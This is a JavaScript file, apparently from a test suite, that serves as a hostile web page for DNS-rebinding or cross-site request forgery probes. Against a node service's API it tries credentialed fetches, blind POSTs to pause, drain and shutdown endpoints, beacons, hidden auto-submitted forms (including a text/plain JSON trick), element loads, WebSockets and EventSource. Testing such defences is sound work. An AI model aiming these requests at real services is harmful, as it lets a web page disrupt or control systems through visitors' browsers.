/** Part of an attacker’s page (rebound.ts serves it): everything a page may try against another server. In the browser's own language, for it runs nowhere else. */

const waitMs = 2000;

/** What came of one try: `read` is what the page could read of an answer, `opened` whether something was shown, loaded or connected. */
async function tried(how, work) {
  const late = new Promise((resolve) => setTimeout(() => resolve({ read: 'no answer in time' }), waitMs));
  const got = await Promise.race([work().catch((error) => ({ read: String(error) })), late]);
  return { how, read: '', opened: false, ...got };
}

function asked(how, address, options) {
  return tried(how, async () => {
    const response = await fetch(address, options);
    return { read: await response.text(), opened: response.ok };
  });
}

function loaded(how, element, address) {
  return tried(
    how,
    () =>
      new Promise((resolve) => {
        element.addEventListener('load', () => resolve(how === 'iframe' ? { read: textOf(element) } : { opened: true }));
        element.addEventListener('error', () => resolve({}));
        element[how === 'stylesheet' ? 'href' : 'src'] = address;
        document.body.append(element);
      }),
  );
}

/** A form that a script sends; the page need not even be seen. */
function submitted(enctype, address) {
  return tried(
    `form ${enctype}`,
    () =>
      new Promise((resolve) => {
        const frame = Object.assign(document.createElement('iframe'), { name: `frame-${document.forms.length}` });
        const form = Object.assign(document.createElement('form'), { method: 'post', action: address, enctype, target: frame.name });
        // As text/plain this is {"a":"="}, which is JSON.
        form.append(Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' }));
        document.body.append(frame, form);
        frame.addEventListener('load', () => resolve({ read: textOf(frame) }));
        form.submit();
      }),
  );
}

function connected(how, open) {
  return tried(
    how,
    () =>
      new Promise((resolve) => {
        const source = open();
        source.onopen = () => resolve({ opened: true });
        source.onmessage = ({ data }) => resolve({ read: String(data), opened: true });
        source.onerror = () => resolve({});
      }),
  );
}

function textOf(frame) {
  try {
    return frame.contentDocument.body.textContent;
  } catch {
    return '';
  }
}

globalThis.attack = ({ origin, node }) => {
  const [pause, status] = [`${origin}/api/v1/nodes/${node}/pause`, `${origin}/api/v1/status`];
  const blind = { method: 'POST', mode: 'no-cors', credentials: 'include' };
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'];
  const element = (name, members = {}) => Object.assign(document.createElement(name), members);
  return Promise.all([
    ...['cors', 'no-cors', 'same-origin'].flatMap((mode) =>
      ['include', 'omit'].map((credentials) => asked(`fetch ${mode} ${credentials}`, status, { mode, credentials })),
    ),
    ...[...types, 'text/plain;application/json'].map((type) => asked(`fetch POST ${type}`, pause, { ...blind, headers: { 'content-type': type }, body: '{}' })),
    asked('fetch POST application/json', pause, { ...blind, mode: 'cors', headers: { 'content-type': 'application/json' }, body: '{}' }),
    asked('fetch POST with nothing', pause, blind),
    ...['drain', 'shutdown'].map((name) => asked(`fetch POST to ${name}`, `${origin}/api/v1/${name}`, { ...blind, body: '{}' })),
    asked('fetch with a token', status, { headers: { authorization: `Bearer svm_${'0'.repeat(32)}` } }),
    ...['text/plain', 'application/json'].map((type) =>
      tried(`beacon ${type}`, async () => {
        navigator.sendBeacon(pause, new Blob(['{}'], { type }));
        return {};
      }),
    ),
    ...types.map((enctype) => submitted(enctype, pause)),
    loaded('image', element('img'), status),
    loaded('script', element('script'), status),
    loaded('stylesheet', element('link', { rel: 'stylesheet' }), status),
    loaded('iframe', element('iframe'), status),
    ...['/api/v1/events', '/health'].map((path) => connected(`WebSocket ${path}`, () => new WebSocket(`${origin.replace('http', 'ws')}${path}`))),
    connected('EventSource', () => new EventSource(`${origin}/api/v1/events`, { withCredentials: true })),
  ]);
};
